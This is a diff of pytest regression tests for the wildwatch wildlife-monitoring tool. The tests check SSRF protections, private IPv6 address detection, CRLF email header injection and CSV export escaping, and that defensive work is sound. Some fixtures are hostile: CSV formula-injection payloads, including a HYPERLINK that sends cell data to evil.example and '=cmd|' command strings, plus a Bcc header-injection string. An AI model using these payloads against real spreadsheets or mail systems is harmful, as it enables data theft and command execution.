@@ -218,6 +218,14 @@ def test_the_api_key_help_recommends_the_environment():
 # ---------------------------------------------------------------- alerts and feeds
 
 
+def apart(folder: Path, gap_s: float = 600) -> None:
+    """The photos' file times ``gap_s`` apart, so that each is a sighting of its own: photos of one
+    camera less than the monitor's ``burst_gap_s`` apart are one burst, and one sighting."""
+    start = time.time() - gap_s * (len(list(folder.iterdir())) + 1)
+    for i, p in enumerate(sorted(folder.iterdir())):
+        os.utime(p, (start + i * gap_s, start + i * gap_s))
+
+
 def test_a_hanging_webhook_does_not_hold_back_the_console(tmp_path):
     # row 7: a webhook receiver that hangs made every other alert wait behind it (5 of 20 in 45 s)
     release = threading.Event()
@@ -239,6 +247,7 @@ def test_a_hanging_webhook_does_not_hold_back_the_console(tmp_path):
     folder.mkdir()
     for i in range(20):
         (folder / f"{i:02d}.jpg").write_bytes(jpeg(RED))
+    apart(folder)
     t0 = time.monotonic()
     try:
         mon = Monitor(config(tmp_path, once=True, drain_s=3), colour_classifier, sinks=sinks, status=False)
@@ -458,3 +467,420 @@ def test_resume_matches_files_by_resolved_path(tmp_path, shapes_dir):
                           capture_output=True, text=True, timeout=300)
     assert proc.returncode == 0 and "0 files" in proc.stderr and "6 already done" in proc.stderr
     assert len(out.read_text().strip().splitlines()) == 1 + 6
+
+
+def test_a_redirect_to_ftp_is_never_followed(tmp_path):
+    # issue 28 item 2: a feed image that redirected to ftp://127.0.0.1:PORT made the monitor log in there
+    connected = []
+    listener = socket.create_server(("127.0.0.1", 0))
+    ftp_port = listener.getsockname()[1]
+
+    def accept():
+        listener.settimeout(0.5)
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            connected.append(conn.recv(0) == b"")
+            conn.sendall(b"220 ready\r\n")
+            conn.close()
+
+    stop = threading.Event()
+    threading.Thread(target=accept, daemon=True).start()
+
+    class Feed(BaseHTTPRequestHandler):
+        def do_GET(self):
+            if self.path == "/feed.json":
+                body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
+                    {"id": "a", "title": "rhino horn", "image": f"{base}/photo.jpg"}]}).encode()
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(body)
+            else:
+                self.send_response(302)
+                self.send_header("Location", f"ftp://anonymous:x@127.0.0.1:{ftp_port}/secret.jpg")
+                self.end_headers()
+
+        def log_message(self, *a):
+            pass
+
+    server, base = serve(Feed)
+    try:  # the feed's own host is trusted (the user named it); the redirect's scheme is not
+        stats = Monitor(config(tmp_path, once=True), colour_classifier, status=False).run([f"{base}/feed.json"])
+        time.sleep(0.5)
+        assert connected == [] and stats["frames"] == 0
+        assert any("only http and https" in e for e in stats["errors"]), stats["errors"]
+    finally:
+        stop.set()
+        server.shutdown()
+        listener.close()
+
+
+@pytest.mark.parametrize("ip", ["::127.0.0.1", "64:ff9b::7f00:1", "::ffff:7f00:1", "64:ff9b:1::a00:1", "2002:7f00:1::",
+                                "2002:c0a8:101::1", "::"])
+def test_ipv6_forms_of_private_ipv4_addresses_are_private(ip):
+    # issue 28 item 2: IPv6 addresses that embed a private IPv4 address were taken for public ones
+    with pytest.raises(FetchRefused):
+        Fetcher().check_peer("x", 80, ip)
+    Fetcher().check_peer("x", 80, "64:ff9b::5db8:d822")  # NAT64 of a public address stays public
+
+
+def test_a_line_break_in_a_post_never_reaches_an_email_header_and_a_failing_sink_backs_off(tmp_path):
+    # issue 28 item 4: CRLF in a feed item id reached the Subject; the email worker then failed every ~10 ms
+    import email
+
+    from aiosmtpd.controller import Controller
+
+    from wildwatch.monitor.alerts import EmailSink, EmailSinkConfig, Outbox
+
+    got = []
+
+    class Handler:
+        async def handle_DATA(self, server, session, envelope):
+            got.append(envelope)
+            return "250 OK"
+
+    port = free_port()
+    ctl = Controller(Handler(), hostname="127.0.0.1", port=port)
+    ctl.start()
+    store = EventStore(tmp_path / "events.db")
+    calls = []
+
+    class Broken:
+        def send(self, payload, key, snapshot):
+            calls.append(time.time())
+            raise RuntimeError("a bug in a sink")
+
+    try:
+        sinks = {"mail": EmailSink(EmailSinkConfig(host="127.0.0.1", port=port, starttls=False, sender="ww@example.org",
+                                                   to=["ranger@example.org"])), "broken": Broken()}
+        outbox = Outbox(store, sinks, base_backoff_s=5)
+        hostile = "https://x.example/feed.xml#a\r\nBcc: victim@example.org\r\nX-Evil: 1"
+        with store.transaction():
+            outbox.enqueue(1, {"sighting_id": 1, "species": "rhino", "common_name": "Rhinoceros", "iucn_status": "CR",
+                               "source": hostile, "confidence": 0.9}, 0, time.time())
+        assert outbox.deliver_due() == 1 and len(got) == 1
+        msg = email.message_from_bytes(got[0].content)
+        assert got[0].rcpt_tos == ["ranger@example.org"] and msg["Bcc"] is None and msg["X-Evil"] is None
+        subject = " ".join(msg["Subject"].split())  # unfolded: the text stays in the Subject, as text
+        assert "feed.xml#a Bcc: victim@example.org X-Evil: 1" in subject
+        for _ in range(20):  # the broken sink's alert waits for its backoff instead of failing in a loop
+            outbox.deliver_due()
+        assert len(calls) == 1 and outbox.counts()["pending"] == 1
+        attempts, error = store.db.execute("SELECT attempts, last_error FROM outbox WHERE sink = 'broken'").fetchone()
+        assert attempts == 1 and "a bug in a sink" in error
+    finally:
+        ctl.stop()
+        store.close()
+
+
+def test_a_database_deleted_under_the_monitor_stops_it_and_alert_keys_follow_the_content(tmp_path):
+    # issue 28 item 5: events.db deleted while the monitor ran: no warning, exit 0; the next start
+    # re-alerted everything under new idempotency keys
+    folder = tmp_path / "watch"
+    folder.mkdir()
+    for i in range(2):
+        (folder / f"red{i}.jpg").write_bytes(jpeg(RED))
+    apart(folder)
+    db = tmp_path / "live.db"
+    mon = Monitor(config(tmp_path, db=db, folder_poll_s=0.2), colour_classifier, status=False)
+    raised = []
+
+    def run():
+        try:
+            mon.run([str(folder)])
+        except Exception as exc:  # noqa: BLE001 - what the run raises is what the test looks at
+            raised.append(exc)
+
+    thread = threading.Thread(target=run, daemon=True)
+    thread.start()
+    for _ in range(100):
+        if mon.frames >= 2:
+            break
+        time.sleep(0.1)
+    db.unlink()
+    thread.join(10)
+    assert not thread.is_alive() and len(raised) == 1 and isinstance(raised[0], EventStoreError)
+    assert "deleted while the monitor was writing" in str(raised[0])
+    keys = []
+    for name in ("a.db", "b.db"):  # the same photos in two new databases: the same keys
+        sinks = {"console": ConsoleSink(ConsoleSinkConfig(), echo=lambda line: None)}
+        m = Monitor(config(tmp_path, db=tmp_path / name, once=True), colour_classifier, sinks=sinks, status=False)
+        m.run([str(folder)])
+        keys.append(sorted(k for (k,) in m.store.db.execute("SELECT idempotency_key FROM outbox")))
+    assert len(keys[0]) == 2 and keys[0] == keys[1]
+
+
+def without_root_powers(cmd: list[str]) -> list[str]:
+    """``cmd`` run so that file permissions hold for it: root keeps its uid but loses the capability
+    to override them (CI runs as root, which a read-only file would not stop)."""
+    if os.getuid() != 0:
+        return cmd
+    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *cmd]
+
+
+def test_a_read_only_or_full_database_is_said_in_words(tmp_path):
+    # issue 28 item 6: a read-only but intact database was called "damaged"; a full disk ended in a traceback
+    db = tmp_path / "events.db"
+    EventStore(db).close()
+    db.chmod(0o444)
+    code = ("from wildwatch.monitor.events import EventStore, EventStoreError\n"
+            f"try:\n    EventStore({str(db)!r}, writer=True)\nexcept EventStoreError as exc:\n    print(exc)")
+    proc = subprocess.run(without_root_powers([sys.executable, "-c", code]), capture_output=True, text=True,
+                          timeout=60, check=False)
+    assert "read-only" in proc.stdout and "damaged" not in proc.stdout and ".recover" not in proc.stdout, proc
+    db.chmod(0o644)
+    # a full disk: SQLite's own "database or disk is full", here from a page limit
+    watch = tmp_path / "watch"
+    watch.mkdir()
+    rng = __import__("numpy").random.default_rng(0)
+    for i in range(6):  # red photos full of noise: snapshots larger than the room left
+        noisy = rng.normal((200, 30, 30), 20, (300, 400, 3)).clip(0, 255).astype("uint8")
+        Image.fromarray(noisy).save(watch / f"red{i}.jpg", quality=95)
+    store = EventStore(tmp_path / "full.db", writer=True)
+    mon = Monitor(config(tmp_path, once=True), colour_classifier, store=store, status=False)
+    store.db.execute(f"PRAGMA max_page_count = {store.db.execute('PRAGMA page_count').fetchone()[0] + 4}")
+    with pytest.raises(EventStoreError, match="disk is full") as info:
+        mon.run([str(watch)])
+    assert "goes on where it stopped" in str(info.value)
+
+
+def big_png(width: int = 6300, height: int = 6330) -> bytes:
+    """A real, decodable PNG of 39.9 Mpx (one colour: a small file, a long decode)."""
+    buf = io.BytesIO()
+    Image.new("RGB", (width, height), (90, 140, 70)).save(buf, format="PNG", compress_level=1)
+    return buf.getvalue()
+
+
+def test_health_answers_at_once_while_large_uploads_decode(open_server):
+    # issue 28 item 8: with 8 clients uploading near-limit images, /health took 2.3 s (median) to 31.6 s
+    data = big_png()
+    stop = time.monotonic() + 8
+    codes, health = [], []
+
+    def client():
+        while time.monotonic() < stop:
+            codes.append(post(open_server, [("big.png", data)])[0])
+
+    def prober():
+        while time.monotonic() < stop:
+            health.append(raw(open_server, "GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")[3])
+            time.sleep(0.05)
+
+    threads = [threading.Thread(target=client) for _ in range(4)] + [threading.Thread(target=prober)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(120)
+    health.sort()
+    assert codes and set(codes) == {200}, codes
+    assert health[len(health) // 2] < 0.2 and health[int(0.95 * len(health))] < 1.0, health
+
+
+@pytest.mark.parametrize("detect", [False, True], ids=["classify", "detect"])
+def test_beyond_the_queue_limit_a_classify_request_gets_503_with_retry_after(tmp_path, detect):
+    # issue 28 item 8: decoding has a queue limit; beyond it 503 and Retry-After, before the body is read
+    # (serve --detect too: its uploads go through the same decoder pool)
+    import uvicorn
+
+    from wildwatch.inference import Predictor
+    from wildwatch.inference.detect import Detector
+    from wildwatch.service.app import Limits, create_app
+
+    port = free_port()
+    app = create_app(Predictor.from_file(None), limits=Limits(max_classify_requests=1),
+                     detector=Detector() if detect else None)
+    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
+    threading.Thread(target=server.run, daemon=True).start()
+    for _ in range(100):
+        if server.started:
+            break
+        time.sleep(0.1)
+    try:
+        boundary, body = multipart([("a.jpg", small_jpeg())])
+        head = (f"POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; "
+                f"boundary={boundary}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n")
+        with socket.create_connection(("127.0.0.1", port)) as slow:  # holds the one place: half its body sent
+            slow.sendall(head.encode() + body[:20])
+            time.sleep(0.3)
+            status, headers, answer, _ = raw(port, head, body)
+            assert status == 503 and headers["retry-after"].isdigit() and "busy" in json.loads(answer)["detail"]
+            slow.sendall(body[20:])
+            assert slow.recv(12).startswith(b"HTTP/1.1 200")
+        assert raw(port, head, body)[0] == 200  # the place is free again
+    finally:
+        server.should_exit = True
+
+
+def test_csv_exports_never_start_a_formula(tmp_path):
+    # issue 28 item 11: the cases CSV wrote =HYPERLINK(...) and =cmd|... unescaped
+    import csv
+
+    from wildwatch.monitor.cases import CaseBook, Post, cases_text
+    from wildwatch.monitor.events import Sighting, sightings_text
+    from wildwatch.monitor.evidence import post_evidence
+
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1,1)", "\t=1+1", "\uff1dcmd|x"]
+    store = EventStore(tmp_path / "events.db")
+    book = CaseBook(store)
+    with store.transaction():
+        for i, text in enumerate(hostile):
+            book.add_post(Post(f"{text}#{i}", "feed:x", text, f"ivory for sale {text}", text, "m.example"),
+                          post_evidence(f"ivory tusks for sale, $3000 {text}", []), [], None)
+    rows = list(csv.DictReader(io.StringIO(cases_text(book.list(limit=100), "csv"))))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        for column in ("post", "account", "link", "text"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\uff1d")), (column, row[column])
+    assert {r["link"] for r in rows} == {"'" + h for h in hostile}  # kept as text, one apostrophe in front
+    sightings = [Sighting(h, "rhino", 0.9, "2026-05-01T05:00:00+00:00", "2026-05-01T05:01:00+00:00", link=h,
+                          latitude=-1.29, longitude=-36.8) for h in hostile]
+    for row in csv.DictReader(io.StringIO(sightings_text(sightings, "csv"))):
+        assert row["source"].startswith("'") and row["link"].startswith("'") and row["latitude"] == "-1.29"
+    store.close()
+
+
+def test_small_things_a_new_user_meets_on_the_command_line(tmp_path):
+    # issue 28 item 16: no --version; an empty folder exited 0 silently; monitor /nonexistent left a
+    # database and a lock file behind; -q hid the progress entirely
+    import pty
+
+    from wildwatch import __version__
+
+    version = subprocess.run([WILDWATCH, "--version"], capture_output=True, text=True, timeout=60, check=False)
+    assert version.returncode == 0 and version.stdout.strip() == f"wildwatch {__version__}"
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    (empty / "notes.txt").write_text("no photos here")
+    proc = subprocess.run([WILDWATCH, "classify", str(empty)], capture_output=True, text=True, timeout=120, check=False)
+    assert proc.returncode == 2 and "no photos found in" in proc.stderr and "JPEG" in proc.stderr
+    proc = subprocess.run(monitor_cmd(tmp_path / "nonexistent", "--db", tmp_path / "events.db"), capture_output=True,
+                          text=True, timeout=120, check=False)
+    assert proc.returncode == 2 and "nonexistent" in proc.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty"]  # no events.db, no events.db.lock
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    for i in range(3):
+        (photos / f"{i}.jpg").write_bytes(small_jpeg())
+    import fcntl
+    import termios
+
+    main, child = pty.openpty()  # stderr a terminal of 80 columns, as for a person at a shell
+    fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
+    proc = subprocess.run([WILDWATCH, "classify", str(photos), "-q"], stdout=subprocess.PIPE, stderr=child,
+                          timeout=120, check=False)
+    os.close(child)
+    seen = b""
+    while True:
+        try:
+            chunk = os.read(main, 65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        seen += chunk
+    os.close(main)
+    assert proc.returncode == 0 and proc.stdout == b""  # no table ...
+    assert b"classifying: 3img" in seen and b"3 classified" in seen  # ... but progress and the summary
+
+
+MODE_IMAGES = {  # 39.9 Mpx (the service's limit) in the modes that once took 1 to 1.3 GB to decode
+    "rgba.webp": ("RGBA", (90, 140, 70, 128), "WEBP", {"lossless": True, "quality": 0, "method": 0}),
+    "float.tiff": ("F", 3000, "TIFF", {"compression": "tiff_deflate"}),
+    "sixteen.png": ("I;16", 3000, "PNG", {"compress_level": 1}),
+}
+
+
+@pytest.mark.parametrize("name", sorted(MODE_IMAGES))
+def test_decoding_any_pixel_mode_at_the_limit_stays_under_a_gigabyte(tmp_path, name):
+    # issue 28 item 7: one 1.6 KB RGBA WebP at the 40 Mpx limit peaked at 1.28 GB, an F-mode TIFF at 1.17 GB
+    mode, colour, fmt, options = MODE_IMAGES[name]
+    path = tmp_path / name
+    Image.new(mode, (6300, 6330), colour).save(path, format=fmt, **options)
+    code = ("import resource, sys; from pathlib import Path\n"
+            "from wildwatch.data.loading import load_photo_bytes\n"
+            "data = Path(sys.argv[1]).read_bytes()\n"
+            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+            "img, _ = load_photo_bytes(data, 'upload', 40_000_000, (256, 256))\n"
+            "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, *img.size, img.mode)")
+    proc = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=300,
+                          check=False)
+    assert proc.returncode == 0, proc.stderr
+    extra_mb, w, h, out_mode = proc.stdout.split()
+    assert out_mode == "RGB" and int(w) * int(h) <= 4_000_000  # reduced as it was decoded
+    assert int(extra_mb) < 800, f"decoding took {extra_mb} MB"
+
+
+def test_one_image_limit_with_one_message_and_large_jpegs_reduced_while_decoding(tmp_path):
+    # issue 28 item 15: a panorama met three limits (64 Mpx, "decompression bomb ... 89478485", "178956970")
+    from wildwatch.data.loading import DEFAULT_MAX_PIXELS, ImageLoadError, load_image
+
+    pano = tmp_path / "panorama.jpg"
+    Image.new("L", (16000, 12000), 120).save(pano, quality=70)  # 192 Mpx: beyond Pillow's own bomb check
+    img = load_image(pano, draft_size=(256, 256))
+    assert img.mode == "RGB" and img.size == (2000, 1500)  # read at 1/8 scale
+    wide = tmp_path / "wide.png"
+    Image.new("L", (10000, 10000), 120).save(wide, compress_level=1)  # 100 Mpx, and not a JPEG: refused
+    with pytest.raises(ImageLoadError) as info:
+        load_image(wide)
+    message = str(info.value)
+    assert f"{DEFAULT_MAX_PIXELS:,}" in message and "10000x10000" in message
+    assert not any(x in message for x in ("89478485", "178956970", "89,478,485", "178,956,970", "bomb"))
+
+
+def test_an_output_is_never_replaced_silently_and_a_json_output_survives_ctrl_c(tmp_path):
+    # issue 28 item 14: --output replaced 1,000 rows by 1; a .json output could not survive Ctrl-C nor resume
+    from wildwatch.inference.batch import ClassifyInterrupted, ClassifyOptions, classify_files
+    from wildwatch.inference.writers import partial_path
+
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    for i in range(8):
+        Image.new("RGB", (64, 48), (30 * i, 100, 60)).save(photos / f"{i}.jpg")
+    out = tmp_path / "rows.csv"
+    subprocess.run([WILDWATCH, "classify", str(photos), "--output", str(out), "-q"], check=True, capture_output=True,
+                   timeout=300)
+    before = out.read_bytes()
+    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q"],
+                          capture_output=True, text=True, timeout=300, check=False)
+    assert proc.returncode == 2 and "--resume" in proc.stderr and "--overwrite" in proc.stderr
+    assert out.read_bytes() == before
+    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q", "--overwrite"],
+                          capture_output=True, text=True, timeout=300, check=False)
+    assert proc.returncode == 0 and len(out.read_text().splitlines()) == 2
+    doc = tmp_path / "rows.json"
+    seen = []
+
+    def ctrl_c_after_five(p):
+        seen.append(p.source)
+        if len(seen) == 5:
+            raise KeyboardInterrupt
+
+    with pytest.raises(ClassifyInterrupted) as info:
+        classify_files(ClassifyOptions(paths=[photos], output=doc), ctrl_c_after_five)
+    assert info.value.rows == 5 and "5 rows written" in info.value.line() and "--resume" in info.value.line()
+    assert not doc.exists() and len(partial_path(doc).read_text().splitlines()) == 5
+    summary = classify_files(ClassifyOptions(paths=[photos], output=doc, resume=True))
+    assert summary.already_done == 5 and summary.files == 3
+    rows = json.loads(doc.read_text())
+    assert sorted(Path(r["source"]).name for r in rows) == sorted(p.name for p in photos.iterdir())
+    assert not partial_path(doc).exists()
+    # the command line: Ctrl-C says how many rows are kept and how to go on, and exits 130
+    many = tmp_path / "many"
+    many.mkdir()
+    for i in range(400):
+        Image.new("RGB", (64, 48), (i % 250, 90, 60)).save(many / f"{i:03d}.jpg")
+    slow = tmp_path / "slow.jsonl"
+    proc = subprocess.Popen([WILDWATCH, "classify", str(many), "--output", str(slow), "--batch-size", "1", "-q"],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    for _ in range(600):
+        if slow.exists() and slow.read_text().count("\n") >= 2:
+            break
+        time.sleep(0.05)
+    proc.send_signal(2)  # SIGINT, as Ctrl-C sends
+    err = proc.communicate(timeout=60)[1]
+    kept = slow.read_text().count("\n")
+    assert proc.returncode == 130 and f"{kept} rows written to {slow}; rerun with --resume" in err, err
+    assert "Traceback" not in err
